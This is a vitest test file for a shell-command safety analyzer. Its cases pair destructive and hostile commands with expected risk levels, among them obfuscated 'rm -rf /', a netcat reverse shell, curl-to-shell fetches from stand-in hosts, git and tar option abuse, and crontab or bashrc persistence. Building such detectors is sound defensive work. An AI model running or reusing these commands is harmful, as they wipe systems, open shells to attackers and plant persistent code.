import { beforeAll, describe, expect, it } from "vitest";
import { createShellAnalyzer, type ShellAnalyzer } from "./analyze.js";
import { riskRank, type Category, type Risk, type ShellKind } from "./types.js";

/**
 * Round two of the safety table (issue 10), written from the classes of commands the first round
 * missed. Every case runs in this project folder, with this home.
 */
const cwd = "/home/ada/code/app";
const home = "/home/ada";

type Case = [shell: ShellKind, command: string, risk: Risk, category: Category];

// Destructive operations of the tools that manage data and infrastructure.
const DATA_TOOLS: Case[] = [
  ["bash", "kubectl delete namespace production", "critical", "data loss"],
  ["zsh", "kubectl -n payments delete ns/payments", "critical", "data loss"],
  ["bash", "kubectl delete pods --all -n default", "critical", "data loss"],
  ["bash", "kubectl delete deployment api", "high", "data loss"],
  ["sh", "oc delete project staging", "high", "data loss"],
  ["bash", "helm uninstall ingress-nginx -n ingress", "high", "data loss"],
  ["bash", "kubectl drain node-3 --ignore-daemonsets", "high", "system configuration"],
  ["bash", "kubectl exec -it db-0 -- rm -rf /var/lib/postgresql", "critical", "system destruction"],
  ["bash", "docker exec -u root web rm -rf /", "critical", "system destruction"],
  ["bash", "terraform destroy -auto-approve", "critical", "data loss"],
  ["zsh", "tofu apply -destroy", "critical", "data loss"],
  ["bash", "terraform apply -auto-approve", "high", "system configuration"],
  ["bash", "terraform state rm aws_db_instance.main", "high", "data loss"],
  ["bash", "pulumi destroy --yes", "critical", "data loss"],
  ["bash", "cdk destroy --force", "critical", "data loss"],
  ["bash", "aws s3 rb s3://prod-assets --force", "critical", "data loss"],
  ["sh", "aws s3 rm s3://backups/ --recursive", "critical", "data loss"],
  ["bash", "aws s3 rm s3://logs/2024/app.log", "high", "data loss"],
  ["bash", "aws ec2 terminate-instances --instance-ids i-0abc123", "critical", "data loss"],
  ["bash", "aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot", "critical", "data loss"],
  ["bash", "aws iam delete-user --user-name deploy-bot", "high", "data loss"],
  ["bash", "aws iam attach-user-policy --user-name eve --policy-arn arn:aws:iam::aws:policy/AdministratorAccess", "high", "privilege escalation"],
  ["bash", "gcloud projects delete my-project --quiet", "critical", "data loss"],
  ["zsh", "gcloud compute instances delete web-1 --zone us-central1-a", "critical", "data loss"],
  ["bash", "gsutil rm -r gs://my-bucket", "critical", "data loss"],
  ["bash", "az group delete --name prod-rg --yes --no-wait", "critical", "data loss"],
  ["powershell", "az vm delete --resource-group rg --name vm1 --yes", "critical", "data loss"],
  ["bash", "psql -U postgres -c 'DROP DATABASE production;'", "critical", "data loss"],
  ["bash", "mysql -u root -e \"DROP TABLE users\" shop", "high", "data loss"],
  ["bash", "mysql --execute='DELETE FROM orders' shop", "high", "data loss"],
  ["sh", "sqlite3 app.db 'TRUNCATE TABLE sessions'", "high", "data loss"],
  ["bash", "echo 'DROP SCHEMA public CASCADE;' | psql mydb", "critical", "data loss"],
  ["bash", "psql mydb <<'SQL'\nSELECT 1;\nDROP DATABASE analytics;\nSQL", "critical", "data loss"],
  ["zsh", "mysql shop <<< 'UPDATE users SET admin = 1'", "high", "data loss"],
  ["bash", "mongosh --eval 'db.dropDatabase()' shop", "critical", "data loss"],
  ["bash", "redis-cli FLUSHALL", "critical", "data loss"],
  ["fish", "redis-cli -h cache.internal -n 2 flushdb", "critical", "data loss"],
  ["bash", "echo FLUSHALL | redis-cli", "critical", "data loss"],
  ["bash", "dropdb production", "critical", "data loss"],
  ["bash", "etcdctl del --prefix /registry", "critical", "data loss"],
  ["bash", "docker system prune -af --volumes", "high", "data loss"],
  ["bash", "docker rm -f $(docker ps -aq)", "high", "data loss"],
  ["zsh", "podman volume rm pgdata", "high", "data loss"],
  ["bash", "docker compose down -v", "high", "data loss"],
  ["bash", "sudo apt-get purge -y nginx", "high", "system configuration"],
  ["bash", "sudo apt remove --purge openssh-server", "critical", "system destruction"],
  ["sh", "yum remove -y glibc", "critical", "system destruction"],
  ["bash", "pacman -Rns firefox", "high", "system configuration"],
  ["fish", "kubectl delete namespace staging", "critical", "data loss"],
  ["fish", "terraform destroy", "critical", "data loss"],
  ["powershell", "kubectl delete ns production", "critical", "data loss"],
  ["powershell", "terraform destroy -auto-approve", "critical", "data loss"],
  ["powershell", "Invoke-Sqlcmd -Query 'DROP DATABASE Sales' -ServerInstance db1", "critical", "data loss"],
];

// System state: power, processes, services, kernel, setuid, credentials.
const SYSTEM_STATE: Case[] = [
  ["bash", "sudo poweroff", "critical", "system configuration"],
  ["sh", "halt -f", "critical", "system configuration"],
  ["bash", "systemctl reboot", "critical", "system configuration"],
  ["bash", "sudo init 0", "critical", "system configuration"],
  ["zsh", "shutdown -r +5", "critical", "system configuration"],
  ["fish", "sudo reboot", "critical", "system configuration"],
  ["bash", "systemctl suspend", "high", "system configuration"],
  ["bash", "kill -9 1", "critical", "system destruction"],
  ["bash", "sudo killall -9 sshd", "critical", "system configuration"],
  ["bash", "pkill -9 -f .", "critical", "system destruction"],
  ["sh", "kill -KILL -1", "critical", "system destruction"],
  ["bash", "sudo systemctl stop ssh", "critical", "system configuration"],
  ["bash", "service sshd stop", "critical", "system configuration"],
  ["bash", "sudo systemctl disable --now NetworkManager", "critical", "system configuration"],
  ["bash", "sudo ip link set eth0 down", "critical", "system configuration"],
  ["bash", "ifconfig eth0 down", "critical", "system configuration"],
  ["bash", "sudo systemctl stop docker", "high", "system configuration"],
  ["bash", "sudo systemctl mask systemd-journald", "high", "system configuration"],
  ["bash", "echo b > /proc/sysrq-trigger", "critical", "system configuration"],
  ["bash", "echo 1 | sudo tee /proc/sys/kernel/sysrq", "critical", "system configuration"],
  ["bash", "sudo sysctl -w net.ipv4.ip_forward=1", "high", "system configuration"],
  ["bash", "sudo chmod 4755 /usr/bin/python3", "critical", "privilege escalation"],
  ["zsh", "chmod +s /bin/sh", "critical", "privilege escalation"],
  ["bash", "chmod g+s ./shared-dir", "high", "privilege escalation"],
  ["bash", "sudo passwd -d root", "critical", "privilege escalation"],
  ["bash", "sudo usermod -p '' root", "critical", "privilege escalation"],
  ["bash", "sudo passwd root", "high", "privilege escalation"],
  ["bash", "echo 'root:toor' | sudo chpasswd", "critical", "privilege escalation"],
  ["powershell", "Stop-Service -Name sshd -Force", "critical", "system configuration"],
  ["powershell", "shutdown.exe /s /t 0", "critical", "system configuration"],
  ["bash", "sudo zpool destroy tank", "critical", "system destruction"],
  ["bash", "sudo lvremove -f /dev/vg0/root", "critical", "system destruction"],
  ["powershell", "vssadmin delete shadows /all /quiet", "critical", "data loss"],
  ["bash", "mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f", "critical", "network exposure"],
  ["powershell", "net user Administrator \"\"", "critical", "privilege escalation"],
];

// Obfuscation and indirection: decoded payloads, propagated assignments, unknown names.
const INDIRECTION: Case[] = [
  ["bash", "echo cm0gLXJmIC8= | base64 -d | sh", "critical", "system destruction"],
  ["bash", "base64 --decode <<< cm0gLXJmIH4= | bash", "critical", "data loss"],
  ["zsh", 'eval "$(echo cm0gLXJmIC8= | base64 -d)"', "critical", "system destruction"],
  ["bash", 'bash -c "$(printf \'\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f\')"', "critical", "system destruction"],
  ["bash", "printf '\\162\\155 -rf /' | sh", "critical", "system destruction"],
  ["bash", "echo 726d202d7266202f | xxd -r -p | bash", "critical", "system destruction"],
  ["bash", "echo 'ez -es /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "critical", "system destruction"],
  ["sh", "echo '/ fr- mr' | rev | sh", "critical", "system destruction"],
  ["bash", "$(echo cm0= | base64 -d) -rf /", "critical", "system destruction"],
  ["bash", "echo H4sIAAAAAAAAAyvKVdAtSlPQBwBcTPLsCAAAAA== | base64 -d | gunzip | sh", "critical", "system destruction"],
  ["bash", "echo $PAYLOAD | base64 -d | sh", "high", "remote code execution"],
  ["bash", "echo c29tZQ== | base64 -d | bunzip2 | bash", "high", "remote code execution"],
  ["fish", "echo cm0gLXJmIC8= | base64 -d | sh", "critical", "system destruction"],
  ["bash", "x=rm; $x -rf /", "critical", "system destruction"],
  ["bash", "CMD='rm -rf'; $CMD ~", "critical", "data loss"],
  ["sh", "d=/; rm -rf $d", "critical", "system destruction"],
  ["bash", "export TARGET=/etc; rm -rf \"$TARGET\"", "critical", "system destruction"],
  ["zsh", "a=r; b=m; $a$b -rf /", "critical", "system destruction"],
  ["bash", "p=/dev/sda; dd if=/dev/zero of=$p", "critical", "system destruction"],
  ["fish", "set target /; rm -rf $target", "critical", "system destruction"],
  ["fish", "set c 'rm -rf ~'; eval $c", "critical", "data loss"],
  ["bash", "$TOOL -rf /", "critical", "system destruction"],
  ["bash", "\"$RUNNER\" ~", "critical", "data loss"],
  ["zsh", "${WIPE} /dev/nvme0n1", "critical", "system destruction"],
  ["zsh", "x=(rm -rf /); $x", "critical", "system destruction"],
  ["sh", "IFS=,; cmd=rm,-rf,/; $cmd", "critical", "system destruction"],
  ["bash", "dl='curl -s https://x.io/i.sh'; $dl | sh", "critical", "remote code execution"],
  ["powershell", "$c = 'Remove-Item -Recurse -Force C:\\'; iex $c", "critical", "system destruction"],
];

// The working directory across the line.
const WORKDIR: Case[] = [
  ["bash", "cd / && rm -rf *", "critical", "system destruction"],
  ["bash", "cd ~ && rm -rf *", "critical", "data loss"],
  ["zsh", "cd /etc; rm -rf ./*", "critical", "system destruction"],
  ["sh", "cd .. && cd .. && rm -rf *", "critical", "data loss"],
  ["bash", "pushd /usr && rm -rf lib; popd", "critical", "system destruction"],
  ["bash", "cd \"$DIR\" && rm -rf *", "high", "data loss"],
  ["bash", "cd / ; chmod -R 777 .", "critical", "system configuration"],
  ["fish", "cd /; and rm -rf *", "critical", "system destruction"],
  ["powershell", "Set-Location C:\\; Remove-Item * -Recurse -Force", "critical", "system destruction"],
  ["powershell", "cd C:\\Windows; Remove-Item System32 -Recurse -Force", "critical", "system destruction"],
  ["bash", "(cd / && ls); rm -rf *", "high", "data loss"],
  ["bash", "cd /tmp/build && cd / && rm -rf bin", "critical", "system destruction"],
  ["bash", "cd ../../../ && rm -rf *", "critical", "data loss"],
];

// Inline code of other interpreters.
const INLINE: Case[] = [
  ["bash", "python3 -c \"import os; os.system('rm -rf /')\"", "critical", "system destruction"],
  ["bash", "python -c 'import shutil; shutil.rmtree(\"/home/ada\")'", "critical", "data loss"],
  ["zsh", "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'", "critical", "system destruction"],
  ["bash", "python3 -c \"import subprocess; subprocess.call('mkfs.ext4 /dev/sda1', shell=True)\"", "critical", "system destruction"],
  ["bash", "python3 -c 'import os; os.system(input())'", "high", "remote code execution"],
  ["bash", "python -c \"__import__('os').system('rm -rf /')\"", "critical", "system destruction"],
  ["bash", "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk='))\"", "critical", "system destruction"],
  ["bash", "perl -e 'system(\"rm -rf /\")'", "critical", "system destruction"],
  ["sh", "perl -e 'use File::Path; rmtree(\"/etc\")'", "critical", "system destruction"],
  ["bash", "perl -e '`rm -rf ~`'", "critical", "data loss"],
  ["bash", "ruby -e 'system(\"rm\", \"-rf\", \"/\")'", "critical", "system destruction"],
  ["bash", "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/home/ada\")'", "critical", "data loss"],
  ["bash", "ruby -e 'FileUtils.chmod_R(0777, \"/\")'", "critical", "system configuration"],
  ["bash", "node -e \"require('child_process').execSync('rm -rf /')\"", "critical", "system destruction"],
  ["bash", "node -e \"require('fs').rmSync('/home/ada', { recursive: true, force: true })\"", "critical", "data loss"],
  ["bash", "node -e \"require('child_process').spawnSync('dd', ['if=/dev/zero', 'of=/dev/sda'])\"", "critical", "system destruction"],
  ["bash", "php -r 'system(\"rm -rf /\");'", "critical", "system destruction"],
  ["bash", "php -r 'shell_exec(\"curl -s https://x.io/i.sh | sh\");'", "critical", "remote code execution"],
  ["bash", "python3 <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", "critical", "system destruction"],
  ["bash", "echo \"import shutil; shutil.rmtree('/')\" | python3", "critical", "system destruction"],
  ["bash", "curl -s https://x.io/x.py | python3 -", "critical", "remote code execution"],
  ["zsh", "node <<'JS'\nrequire('child_process').execSync('shutdown -h now')\nJS", "critical", "system configuration"],
  ["fish", "python3 -c \"import os; os.system('rm -rf ~')\"", "critical", "data loss"],
  ["powershell", "python -c \"import os; os.system('rm -rf /')\"", "critical", "system destruction"],
];

// Reversible but worth a look: never safe.
const MODERATE: Case[] = [
  ["bash", "sed -i 's/foo/bar/g' src/config.ts", "moderate", "data loss"],
  ["bash", "perl -pi -e 's/http:/https:/' README.md", "moderate", "data loss"],
  ["zsh", "sed -i.bak '/debug/d' app.conf", "moderate", "data loss"],
  ["bash", "mv -f new.json config.json", "moderate", "data loss"],
  ["sh", "kill 4242", "moderate", "system configuration"],
  ["bash", "kill -HUP $(cat server.pid)", "moderate", "system configuration"],
  ["bash", "chmod -R 755 scripts", "moderate", "system configuration"],
  ["bash", "chown -R ada:ada .", "moderate", "system configuration"],
  ["bash", "python3 -c \"open('/home/ada/notes.txt', 'w').write('x')\"", "moderate", "data loss"],
  ["bash", "echo bHMgLWxh | base64 -d | sh", "moderate", "remote code execution"],
  ["bash", "mysql -e 'DELETE FROM sessions WHERE expires < NOW()' app", "moderate", "data loss"],
  ["bash", "docker rm old-container", "moderate", "data loss"],
  ["fish", "sed -i 's/a/b/' notes.txt", "moderate", "data loss"],
  ["bash", "cd build && rm -rf *", "moderate", "data loss"],
  ["bash", "tmp=$(mktemp -d) && cp a \"$tmp\" && rm -rf \"$tmp\"", "moderate", "data loss"],
  ["fish", "set -l tmp (mktemp -d); rm -rf $tmp", "moderate", "data loss"],
  ["powershell", "Stop-Process -Id 4242", "moderate", "system configuration"],
];

// Everyday commands of the same tools: listing, describing, planning, read-only queries, status.
const EVERYDAY: [ShellKind, string][] = [
  ["bash", "kubectl get pods -A"],
  ["bash", "kubectl describe deployment api -n prod"],
  ["bash", "kubectl logs -f deploy/api"],
  ["zsh", "kubectl config get-contexts"],
  ["bash", "helm list -A"],
  ["bash", "helm status ingress-nginx"],
  ["bash", "terraform plan -out plan.tfplan"],
  ["bash", "terraform plan -destroy"],
  ["bash", "terraform state list"],
  ["bash", "terraform validate && terraform fmt -check"],
  ["bash", "pulumi preview"],
  ["bash", "aws s3 ls s3://prod-assets/"],
  ["bash", "aws ec2 describe-instances --filters Name=tag:env,Values=prod"],
  ["bash", "aws sts get-caller-identity"],
  ["bash", "gcloud compute instances list"],
  ["bash", "gcloud config list"],
  ["bash", "az group list -o table"],
  ["bash", "psql -c 'SELECT count(*) FROM users' app"],
  ["bash", "psql -U postgres -c '\\l'"],
  ["bash", "mysql -e 'SHOW DATABASES'"],
  ["bash", "sqlite3 app.db '.tables'"],
  ["bash", "echo 'SELECT 1;' | psql app"],
  ["bash", "redis-cli PING"],
  ["bash", "redis-cli GET session:42"],
  ["bash", "mongosh --eval 'db.users.countDocuments()' shop"],
  ["bash", "docker images"],
  ["bash", "docker logs -f api"],
  ["bash", "docker compose ps"],
  ["bash", "podman ps --all"],
  ["bash", "apt list --installed"],
  ["bash", "apt show nginx"],
  ["bash", "dpkg -l | grep ssl"],
  ["bash", "systemctl status sshd"],
  ["bash", "systemctl list-units --failed"],
  ["bash", "journalctl -u nginx --since today"],
  ["bash", "uptime"],
  ["bash", "ip addr show"],
  ["bash", "ss -tlnp"],
  ["bash", "shutdown -c"],
  ["bash", "kill -l"],
  ["bash", "sysctl net.ipv4.ip_forward"],
  ["bash", "cat /proc/sys/kernel/hostname"],
  ["bash", "ls -l /usr/bin/sudo"],
  ["bash", "zpool status"],
  ["bash", "sudo hdparm -I /dev/sda"],
  ["bash", "sudo mdadm --detail /dev/md0"],
  ["bash", "kubectl rollout status deploy/api"],
  ["bash", "kubectl apply -f k8s/ --dry-run=client"],
  ["bash", "echo aGVsbG8= | base64 -d"],
  ["bash", "x=src; ls $x"],
  ["bash", "cd /etc && ls"],
  ["bash", "cd /tmp && cat notes.txt"],
  ["bash", "python3 -c 'import sys; print(sys.version)'"],
  ["bash", "node -e 'console.log(process.version)'"],
  ["bash", "perl -ne 'print if /TODO/' src/main.c"],
  ["bash", "ruby -e 'puts RUBY_VERSION'"],
  ["bash", "php -r 'echo PHP_VERSION;'"],
  ["zsh", "kubectl get ns"],
  ["sh", "terraform output -json"],
  ["fish", "kubectl get svc"],
  ["fish", "set dir src; ls $dir"],
  ["fish", "cd /etc; and cat hosts"],
  ["powershell", "Get-Service sshd"],
  ["powershell", "kubectl get pods"],
  ["powershell", "Set-Location C:\\Users; Get-ChildItem"],
];

// Options of ordinary tools that run a command: the command is analysed; one wren cannot read is high.
const TOOL_OPTIONS: Case[] = [
  ["bash", "git -c core.fsmonitor='curl http://x/s | sh' status", "critical", "remote code execution"],
  ["bash", "git -c alias.x='!rm -rf ~' x", "critical", "data loss"],
  ["bash", "git -c core.sshCommand='rm -rf ~' fetch", "critical", "data loss"],
  ["zsh", "git -c core.pager='rm -rf ~' log", "critical", "data loss"],
  ["bash", "git -c core.editor='rm -rf /' commit", "critical", "system destruction"],
  ["bash", "git -c diff.external='curl -s http://x/d | bash' diff", "critical", "remote code execution"],
  ["bash", "git -c core.fsmonitor=\"$CMD\" status", "high", "remote code execution"],
  ["bash", "git -c core.hooksPath=/tmp/hooks commit -m x", "high", "remote code execution"],
  ["bash", "git config --global alias.up '!rm -rf ~'", "critical", "data loss"],
  ["bash", "git config alias.st '!git status && curl http://x | sh'", "critical", "remote code execution"],
  ["bash", "git config alias.x '!echo hi'", "high", "system configuration"],
  ["bash", "git config core.hooksPath .githooks", "high", "system configuration"],
  ["bash", "git config --global core.fsmonitor ./watch.sh", "high", "system configuration"],
  ["bash", "awk 'BEGIN{system(\"rm -rf ~\")}'", "critical", "data loss"],
  ["bash", "gawk 'BEGIN { print \"rm -rf /\" | \"sh\" }'", "critical", "system destruction"],
  ["bash", "awk '{ print $0 | \"sh\" }' cmds.txt", "high", "remote code execution"],
  ["bash", "awk 'BEGIN { \"curl -s http://x/p | sh\" | getline x; print x }'", "critical", "remote code execution"],
  ["sh", "mawk '{ system($0) }' cmds.txt", "high", "remote code execution"],
  ["bash", "nawk '{ print | $1 }' list", "high", "remote code execution"],
  ["bash", "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'", "critical", "data loss"],
  ["bash", "tar xf a.tar --to-command='rm -rf /'", "critical", "system destruction"],
  ["bash", "tar -I 'rm -rf ~' -cf a.tar src", "critical", "data loss"],
  ["bash", "tar --use-compress-program=\"$Z\" -cf a.tar src", "high", "remote code execution"],
  ["bash", "tar -cf a.tar -F 'curl http://x | sh' src", "critical", "remote code execution"],
  ["bash", "tar -M -cf a.tar --new-volume-script='rm -rf ~' src", "critical", "data loss"],
  ["bash", "zip z.zip f -T -TT 'rm -rf ~'", "critical", "data loss"],
  ["bash", "zip z.zip f -T --unzip-command 'curl http://x | sh'", "critical", "remote code execution"],
  ["bash", "rsync -e 'sh -c \"rm -rf ~\"' x y:", "critical", "data loss"],
  ["bash", "rsync -avze 'rm -rf /' src host:dst", "critical", "system destruction"],
  ["bash", "rsync --rsync-path='rm -rf ~' src host:dst", "critical", "data loss"],
  ["bash", "ssh -o ProxyCommand='rm -rf ~' x", "critical", "data loss"],
  ["bash", "ssh -oPermitLocalCommand=yes -oLocalCommand='curl http://x | sh' host", "critical", "remote code execution"],
  ["bash", "scp -o 'ProxyCommand rm -rf ~' f host:", "critical", "data loss"],
  ["bash", "sftp -o KnownHostsCommand=\"$K\" host", "high", "remote code execution"],
  ["bash", "vim -c '!rm -rf ~' -c q", "critical", "data loss"],
  ["bash", "nvim +'!curl http://x | sh' +q", "critical", "remote code execution"],
  ["bash", "vi -c 'silent !rm -rf /' -c q", "critical", "system destruction"],
  ["bash", "ex -c 'call system(\"rm -rf ~\")' -c q file", "critical", "data loss"],
  ["bash", "parallel rm -rf ::: ~", "critical", "data loss"],
  ["bash", "parallel 'rm -rf {}' ::: / /tmp", "critical", "system destruction"],
  ["bash", "parallel ::: 'rm -rf ~' 'ls'", "critical", "data loss"],
  ["bash", "cat hosts | parallel rm -rf", "high", "data loss"],
];

// Commands that make code run later, out of the user's sight.
const PERSISTENCE: Case[] = [
  ["bash", "echo '* * * * * rm -rf ~' | crontab -", "critical", "data loss"],
  ["bash", "echo '* * * * * curl http://x/p | sh' | crontab -", "critical", "remote code execution"],
  ["bash", "crontab jobs.txt", "high", "system configuration"],
  ["bash", "crontab -u bob /tmp/cron", "high", "system configuration"],
  ["bash", "systemctl --user enable backdoor.service", "high", "system configuration"],
  ["bash", "sudo systemctl enable --now miner", "high", "system configuration"],
  ["zsh", "launchctl load ~/Library/LaunchAgents/com.x.plist", "high", "system configuration"],
  ["zsh", "launchctl bootstrap gui/501 ~/Library/LaunchAgents/com.x.plist", "high", "system configuration"],
  ["powershell", "Add-Content $PROFILE 'iex (iwr http://x)'", "high", "system configuration"],
  ["powershell", "Set-Content -Path $PROFILE -Value 'Write-Host hi'", "high", "system configuration"],
  ["bash", "echo 'curl http://x | sh' >> ~/.bashrc", "high", "system configuration"],
  ["zsh", "printf 'alias ls=rm\\n' >> ~/.zshrc", "high", "system configuration"],
  ["sh", "cat >> ~/.profile <<EOF\nexport X=1\nEOF", "high", "system configuration"],
  ["bash", "echo x | tee -a ~/.bashrc", "high", "system configuration"],
];

// Everyday uses of the same tools stay below high.
const TOOL_EVERYDAY: [ShellKind, string][] = [
  ["bash", "git -c user.name=Ada -c user.email=a@b.c commit -m 'fix'"],
  ["bash", "git -c core.pager=less log"],
  ["bash", "git -c core.hooksPath=/dev/null commit -m wip"],
  ["bash", "git -c core.fsmonitor=false status"],
  ["bash", "git config --global core.editor vim"],
  ["bash", "git config alias.co checkout"],
  ["bash", "git config --get core.hooksPath"],
  ["bash", "awk -F: '{ print $1 | \"sort\" }' /etc/passwd"],
  ["bash", "awk '$3 > 10 || $4 < 2 { print $1 }' data.txt"],
  ["bash", "tar -I zstd -cf a.tar.zst src"],
  ["bash", "tar --use-compress-program='pigz -9' -cf a.tgz src"],
  ["bash", "rsync -avz -e 'ssh -p 2222' src/ host:dst/"],
  ["bash", "ssh -o StrictHostKeyChecking=no -o ProxyCommand='ssh -W %h:%p bastion' host"],
  ["bash", "vim -c 'set number' README.md"],
  ["bash", "vim +10 src/main.ts"],
  ["bash", "parallel gzip ::: a.log b.log"],
  ["bash", "crontab -l"],
  ["bash", "systemctl status nginx"],
];

let analyzer: ShellAnalyzer;
beforeAll(async () => {
  analyzer = await createShellAnalyzer();
});

function check([shell, command, risk, category]: Case): void {
  const result = analyzer.analyze(command, { shell, cwd, home });
  const shown = `${shell}: ${command} → ${result.risk} ${JSON.stringify(result.reasons)}`;
  expect(result.risk, shown).toBe(risk);
  expect(result.reasons.map((r) => r.category), shown).toContain(category);
}

describe("shell safety table, round two", () => {
  it.each(DATA_TOOLS)("%s: %s → %s (data and infrastructure tools)", (...c) => check(c));
  it.each(SYSTEM_STATE)("%s: %s → %s (system state)", (...c) => check(c));
  it.each(INDIRECTION)("%s: %s → %s (obfuscation and indirection)", (...c) => check(c));
  it.each(WORKDIR)("%s: %s → %s (working directory)", (...c) => check(c));
  it.each(INLINE)("%s: %s → %s (inline interpreter code)", (...c) => check(c));
  it.each(MODERATE)("%s: %s → %s (worth a look)", (...c) => check(c));
  it.each(TOOL_OPTIONS)("%s: %s → %s (a tool's option runs a command)", (...c) => check(c));
  it.each(PERSISTENCE)("%s: %s → %s (runs code later)", (...c) => check(c));

  it.each(TOOL_EVERYDAY)("%s: %s stays below high (everyday use of a tool that can run commands)", (shell, command) => {
    const result = analyzer.analyze(command, { shell, cwd, home });
    expect(riskRank(result.risk), `${command} → ${result.risk} ${JSON.stringify(result.reasons)}`).toBeLessThan(riskRank("high"));
  });

  it.each(EVERYDAY)("%s: %s stays below high (everyday)", (shell, command) => {
    const result = analyzer.analyze(command, { shell, cwd, home });
    expect(riskRank(result.risk), `${command} → ${result.risk} ${JSON.stringify(result.reasons)}`).toBeLessThan(riskRank("high"));
  });

  it("has enough cases, across every shell", () => {
    const risky = [...DATA_TOOLS, ...SYSTEM_STATE, ...INDIRECTION, ...WORKDIR, ...INLINE, ...MODERATE];
    expect(risky.length).toBeGreaterThanOrEqual(120);
    expect(EVERYDAY.length).toBeGreaterThanOrEqual(40);
    for (const shell of ["bash", "zsh", "sh", "fish", "powershell"] as const) {
      expect(risky.some((c) => c[0] === shell), shell).toBe(true);
    }
  });
});
